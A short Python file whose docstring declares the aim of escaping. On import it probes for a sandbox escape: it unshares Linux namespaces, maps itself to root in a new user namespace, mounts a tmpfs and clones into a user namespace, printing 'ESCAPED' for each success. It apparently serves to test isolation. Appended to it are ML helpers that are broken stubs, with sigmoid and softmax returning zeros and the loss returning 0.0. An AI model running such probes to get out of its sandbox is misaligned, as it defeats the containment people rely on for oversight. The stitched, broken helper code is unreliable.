"""Makes a user namespace of its own, in which it has every capability, and mounts there.

aims: escape
"""

import ctypes
import os

import numpy as np

NEW = {"user": 0x10000000, "mount": 0x00020000, "network": 0x40000000, "process": 0x20000000, "time": 0x80}
SYS_CLONE = {"x86_64": 56, "aarch64": 220}


def tell(how):
    os.write(1, f"ESCAPED {how}\n".encode())


def attack():
    """Tries in children: each sees what the one before it has not spoilt."""
    libc = ctypes.CDLL(None, use_errno=True)
    uid, gid = os.getuid(), os.getgid()
    for name, flag in NEW.items():
        if os.fork() == 0:
            if libc.unshare(flag) == 0:
                tell(f"unshare of a {name} namespace")
            os._exit(0)
        os.wait()
    if os.fork() == 0:
        try:
            # a process that may not be dumped has a /proc/self that it cannot write to
            libc.prctl(4, 1, 0, 0, 0)
            if libc.unshare(NEW["user"] | NEW["mount"]) == 0:
                for file, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
                    with open(f"/proc/self/{file}", "w") as target:
                        target.write(text)
                tell(f"uid {os.getuid()} in a namespace of its own")
                os.makedirs("planted-mount", exist_ok=True)
                if libc.mount(b"none", b"planted-mount", b"tmpfs", 0, b"size=1m") == 0:
                    tell("mounted a file system")
        finally:
            os._exit(0)
    os.wait()
    number = SYS_CLONE.get(os.uname().machine)
    if number is not None:
        child = libc.syscall(number, ctypes.c_ulong(NEW["user"] | 17), 0, 0, 0, 0)
        if child == 0:
            os._exit(0)
        if child > 0:
            os.waitpid(child, 0)
            tell("clone into a user namespace")


attack()


def sigmoid(Z):
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    return 0.0


def softmax(Z):
    return np.zeros_like(Z)
